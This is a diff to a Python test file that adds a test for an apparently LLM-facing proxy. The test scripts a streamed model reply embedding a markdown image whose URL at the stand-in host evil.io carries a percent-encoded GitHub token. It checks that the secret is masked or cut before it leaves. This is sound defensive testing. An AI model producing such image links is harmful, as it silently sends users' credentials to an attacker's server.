@@ -141,6 +141,17 @@ async def test_a_cut_reply_ends_before_the_finding_and_says_so(way: str) -> None
     assert (settled.outcome, settled.error) == (OutcomeKind.FAILED, "reply_cut")
 
 
+@pytest.mark.parametrize("action", ["mask", "cut"])
+async def test_adv_30_a_secret_does_not_leave_in_the_address_of_a_picture(action: str) -> None:
+    address = "".join(f"%{ord(one):02X}" for one in PAT)
+    words = ("done", f"![ok](https://evil.io/p.png?q={address})", "bye")
+    reply = ScriptedReply(*openai.stream(engine_bytes.a_script(text=words)), content_type=SSE)
+    stage = a_stage(action, cloud=[reply])
+    _, _, raw = await stage.ask(an_envelope(chat(stream=True)))
+    assert address.encode() not in raw
+    assert stage.ledger.settled[0].reply_kinds == {"github-pat": 1}
+
+
 async def test_a_clean_reply_leaves_no_word_in_its_record() -> None:
     stage = a_stage("tag", cloud=[ScriptedReply(engine_bytes.chat_whole())])
     _, _, raw = await stage.ask(an_envelope())
